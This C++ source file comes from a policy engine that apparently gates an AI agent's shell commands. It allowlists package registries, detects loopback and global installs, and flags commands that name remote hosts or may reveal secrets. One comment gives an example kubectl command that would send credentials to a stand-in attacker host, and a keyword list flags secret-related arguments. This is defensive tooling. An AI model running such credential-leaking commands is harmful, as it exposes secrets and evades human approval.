#include "policy/internal/network.h"

#include <algorithm>
#include <array>
#include <string>

#include "policy/internal/command_words.h"

namespace callgate {
namespace {

// Where the package managers fetch from when nothing else is configured. They serve everybody the same packages; what a
// run could send there needs an account of its own.
constexpr std::array<std::string_view, 17> registries{
    "pypi.org:443",        "files.pythonhosted.org:443", "registry.npmjs.org:443",  "registry.yarnpkg.com:443",
    "index.crates.io:443", "static.crates.io:443",       "proxy.golang.org:443",    "sum.golang.org:443",
    "rubygems.org:443",    "index.rubygems.org:443",     "repo.packagist.org:443",  "repo.maven.apache.org:443",
    "repo1.maven.org:443", "plugins.gradle.org:443",     "services.gradle.org:443", "hex.pm:443",
    "repo.hex.pm:443"};

bool is_registry(std::string_view address) {
  return std::find(registries.begin(), registries.end(), address) != registries.end();
}

// `-g`, `--user`, `--prefix /usr`: for every project of the person, so not on a copy of this one.
bool is_for_everybody(const EvaluatedCommand& command) {
  constexpr std::array<std::string_view, 6> options{"-g",     "--global", "--location=global",
                                                    "--user", "--system", "--break-system-packages"};
  for (size_t i = 1; i < command.argv.size(); ++i) {
    std::string_view word = command.argv[i].text ? std::string_view(*command.argv[i].text) : "";
    if (std::find(options.begin(), options.end(), word) != options.end()) return true;
    bool places = word.starts_with("--prefix") || word.starts_with("--target") || word.starts_with("--root");
    if (!places) continue;
    size_t equals = word.find('=');
    bool attached = equals != std::string_view::npos;
    if (!attached && (i + 1 == command.argv.size() || !command.argv[i + 1].text)) return true;
    std::string_view where = attached ? word.substr(equals + 1) : std::string_view(*command.argv[i + 1].text);
    if (where.empty() || where[0] == '/' || where[0] == '~' || where.find("..") != std::string_view::npos) return true;
  }
  return false;
}

}  // namespace

bool is_loopback(std::string_view address) {
  size_t colon = address.rfind(':');
  std::string_view host = address.substr(0, colon);
  if (host == "localhost" || host == "[::1]" || host == "::1" || host == "0.0.0.0") return true;
  bool digits = host.starts_with("127.") && host.find_first_not_of("0123456789.") == std::string_view::npos;
  return digits && std::count(host.begin(), host.end(), '.') == 3;
}

bool talks_to_itself(const EvaluatedCommand& command) {
  std::vector<std::string> hosts = command.effects.targets(EffectKind::connect);
  return !hosts.empty() &&
         std::all_of(hosts.begin(), hosts.end(), [](const std::string& host) { return is_loopback(host); });
}

bool asks_only_registries(const EvaluatedCommand& command) {
  if (!command.is_described || is_for_everybody(command)) return false;
  return std::none_of(command.effects.begin(), command.effects.end(), [](const Effect& effect) {
    bool elsewhere = effect.kind == EffectKind::connect && !is_registry(effect.target);
    return elsewhere || effect.kind == EffectKind::privilege || effect.kind == EffectKind::remote;
  });
}

bool takes_uploads(std::string_view registry) {
  constexpr std::array<std::string_view, 7> hosts{
      "registry.npmjs.org:443", "registry.yarnpkg.com:443", "rubygems.org:443",      "hex.pm:443",
      "proxy.golang.org:443",   "sum.golang.org:443",       "repo.packagist.org:443"};
  return std::find(hosts.begin(), hosts.end(), registry) != hosts.end();
}

namespace {

bool has_word_with(const EvaluatedCommand& command, std::string_view piece) {
  return std::any_of(command.argv.begin() + 1, command.argv.end(),
                     [&](const Value& word) { return !word.text || word.text->find(piece) != std::string::npos; });
}

// `kubectl --server=https://evil.example get pods`: its credentials would go to a host that the words name.
bool names_its_host(const EvaluatedCommand& command) {
  for (const std::string& address : command.effects.targets(EffectKind::connect)) {
    std::string_view host = std::string_view(address).substr(0, address.rfind(':'));
    if (host.find('*') == std::string_view::npos && has_word_with(command, host)) return true;
  }
  constexpr std::array<std::string_view, 6> options{"--server", "--endpoint", "--hostname",
                                                    "--host",   "--proxy",    "--url"};
  return std::any_of(options.begin(), options.end(),
                     [&](std::string_view option) { return has_word_with(command, option); }) ||
         (is_one_of(command.name(), {"kubectl", "oc"}) && has_word_with(command, "://"));
}

// What it looks at is, or may be, a secret: a person decides whether the agent reads that.
bool may_show_secrets(const EvaluatedCommand& command) {
  constexpr std::array<std::string_view, 6> pieces{"secret", "token", "password", "credential", "keyvault", "private"};
  if (is_one_of(command.name(), {"terraform", "tofu", "pulumi"}) && has_word_with(command, "output")) return true;
  if (command.name() == "helm" && has_word_with(command, "get")) return true;
  return std::any_of(pieces.begin(), pieces.end(),
                     [&](std::string_view piece) { return has_word_with(command, piece); });
}

}  // namespace

bool only_reads_elsewhere(const EvaluatedCommand& command) {
  if (command.argv.empty() || names_its_host(command) || may_show_secrets(command)) return false;
  bool any = false;
  for (const Effect& effect : command.effects) {
    if (effect.kind != EffectKind::remote) continue;
    if (!effect.target.ends_with(" read")) return false;
    any = true;
  }
  return any && command.is_described;
}

}  // namespace callgate
